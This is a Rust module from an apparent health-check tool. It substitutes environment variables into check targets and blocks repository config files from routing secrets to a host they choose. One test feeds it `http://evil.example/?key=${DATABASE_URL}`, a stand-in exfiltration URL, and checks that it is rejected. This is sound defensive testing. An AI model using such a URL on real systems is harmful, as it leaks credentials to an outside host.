//! The checks that a configuration file asks for.

use std::time::Duration;

use super::options::{CheckOptions, FileOptions};
use super::{Environment, Origin, SettingsError};
use crate::model::parse_duration;

/// A target with the values of its variables, which may be secrets: shown to nobody.
#[derive(Clone, PartialEq, Eq)]
pub enum Target {
    /// What to ask.
    Known(String),
    /// Why that is not known.
    Unknown(String),
}

impl std::fmt::Debug for Target {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            Self::Known(_) => f.write_str("Known(…)"),
            Self::Unknown(why) => f.debug_tuple("Unknown").field(why).finish(),
        }
    }
}

impl Target {
    /// Puts the values in the place of `${NAME}`.
    ///
    /// In a repository's file a variable may only be the whole target: the host then comes with it, and
    /// nobody's secret goes to a host that the repository chose.
    fn of(written: &str, origin: &Origin, environment: &Environment) -> Self {
        let mut made = String::new();
        let mut rest = written;
        while let Some((before, after)) = rest.split_once("${") {
            let Some((name, behind)) = after.split_once('}') else {
                return Self::Unknown("has `${` and no `}` behind it".to_owned());
            };
            let whole = before.is_empty() && behind.is_empty() && made.is_empty();
            if !whole && matches!(origin, Origin::Repository(..)) {
                let rule = "in a repository's file a variable may only be the whole target";
                return Self::Unknown(format!("has ${{{name}}} in it, and {rule}"));
            }
            let Some(value) = environment.named(name).filter(|value| !value.is_empty()) else {
                return Self::Unknown(format!("${name} is not set"));
            };
            made.push_str(before);
            made.push_str(value.trim());
            rest = behind;
        }
        made.push_str(rest);
        Self::Known(made)
    }
}

/// One check, as it was written; what it means is for `probes`.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct CheckSettings {
    /// What to call it.
    pub id: String,
    /// `http`, `tcp`, `tls`, `metrics`, or a row of `probes::kinds`.
    pub kind: String,
    /// A URL, or `host:port`, as the file has it: with `${NAME}` for a variable.
    pub written: String,
    /// The same with the values of the variables, or why there is none.
    pub target: Target,
    /// What it belongs to.
    pub group: Option<String>,
    /// How long it may take.
    pub timeout: Option<Duration>,
    /// The time between two scrapes of metrics.
    pub window: Option<Duration>,
    /// The ids of the checks that must not fail before this is asked.
    pub needs: Vec<String>,
    /// Where it becomes a warning; `None` for the built-in limits.
    pub warn: Option<Vec<String>>,
    /// Where it becomes a failure; `None` for the built-in limits.
    pub fail: Option<Vec<String>>,
    /// The likely cause of a failure.
    pub hint: Option<String>,
    /// The section of the runbook.
    pub runbook: Option<String>,
    /// Which file.
    pub origin: Origin,
}

impl CheckSettings {
    /// Reads the durations and the variables of the target.
    pub(super) fn read(
        options: &CheckOptions,
        origin: &Origin,
        environment: &Environment,
    ) -> Result<Self, SettingsError> {
        let duration = |name, text: &Option<String>| match text {
            None => Ok(None),
            Some(text) => match parse_duration(text) {
                Ok(value) if !value.is_zero() => Ok(Some(value)),
                _ => Err(SettingsError::Value {
                    name,
                    origin: origin.clone(),
                    value: text.clone(),
                    expected: "a duration such as 500ms, 5s or 1m",
                }),
            },
        };
        let CheckOptions {
            id,
            kind,
            target,
            group,
            timeout,
            window,
            needs,
            warn,
            fail,
            hint,
            runbook,
        } = options.clone();
        Ok(Self {
            timeout: duration("check.timeout", &timeout)?,
            window: duration("check.window", &window)?,
            origin: origin.clone(),
            id,
            kind,
            target: Target::of(&target, origin, environment),
            written: target,
            group,
            needs,
            warn,
            fail,
            hint,
            runbook,
        })
    }
}

/// Reads the checks of a repository's file out of its text; errs in words.
pub fn checks_of(text: &str, environment: &Environment) -> Result<Vec<CheckSettings>, String> {
    let path = std::path::Path::new("obs.toml");
    let options = FileOptions::parse(text, path).map_err(|error| error.to_string())?;
    let origin = Origin::Repository(path.to_owned(), None);
    let checks = options.base.check.unwrap_or_default();
    let read = |options: &CheckOptions| CheckSettings::read(options, &origin, environment);
    checks.iter().map(read).collect::<Result<_, _>>().map_err(|error| error.to_string())
}

#[cfg(test)]
mod tests {
    use std::path::PathBuf;

    use super::*;

    fn read(written: &str, origin: &Origin) -> Target {
        let pairs = [("DATABASE_URL", "postgres://u:hunter2@db/x"), ("HOST", "db"), ("EMPTY", "")];
        Target::of(written, origin, &Environment::from_pairs(&pairs))
    }

    #[test]
    fn a_variable_is_put_into_a_target() {
        let user = Origin::User(PathBuf::from("config.toml"), None);
        let known = |text: &str| Target::Known(text.to_owned());
        assert_eq!(read("${DATABASE_URL}", &user), known("postgres://u:hunter2@db/x"));
        assert_eq!(read("tcp://${HOST}:1", &user), known("tcp://db:1"));
        assert_eq!(read("plain$", &user), known("plain$"));
        for (written, why) in [
            ("${NONE}", "$NONE is not set"),
            ("${EMPTY}", "$EMPTY is not set"),
            ("${HOST", "has `${` and no `}` behind it"),
        ] {
            assert_eq!(read(written, &user), Target::Unknown(why.to_owned()), "{written}");
        }
    }

    #[test]
    fn a_repository_does_not_choose_the_host_that_a_secret_goes_to() {
        let repository = Origin::Repository(PathBuf::from("obs.toml"), None);
        let hostile = read("http://evil.example/?key=${DATABASE_URL}", &repository);
        assert!(matches!(hostile, Target::Unknown(_)), "{hostile:?}");
        assert!(matches!(read("${DATABASE_URL}", &repository), Target::Known(_)));
        assert!(!format!("{:?}", read("${DATABASE_URL}", &repository)).contains("hunter2"));
    }
}
